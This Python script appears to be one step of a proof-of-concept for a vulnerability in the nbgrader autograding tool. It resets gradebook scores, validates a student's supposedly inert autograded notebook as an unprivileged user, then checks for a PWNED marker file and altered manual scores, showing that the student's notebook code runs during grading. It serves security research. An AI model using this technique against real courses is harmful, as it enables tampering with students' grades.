"""a03: a01 on the copy the README tells the TA to read: autograded/<student>/<assignment>/ ("the graded notebook
alone, made inert"). Made inert for the browser, but its code cells are the student's code. Reuses a01's course
(run a01 first); manual scores reset to NULL first."""
from lib import *
import sqlite3
d = "/tmp/attack38-user-a01"; A = "ps1_memory"
c = sqlite3.connect(f"{d}/gradebook.db"); c.execute("update grade set manual_score=NULL"); c.commit(); c.close()
print("== reset"); scores(d)
P = "/tmp/attack38-user-a01-PWNED"
if os.path.exists(P): os.remove(P)
os.system(f"grep -c 'sqlite3 as _sq' {d}/autograded/mallory/{A}/{A}.ipynb; ls -la {d}/autograded/mallory/{A}/")
chown(d)
cmd = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "validate",
       f"autograded/mallory/{A}/{A}.ipynb"]
r = subprocess.run(cmd, cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"]), capture_output=True, text=True, timeout=600)
print("validate rc", r.returncode, r.stdout[-300:])
print("PWNED:", os.path.exists(P), open(P).read() if os.path.exists(P) else "")
print("== gradebook after validating the autograded copy"); scores(d)
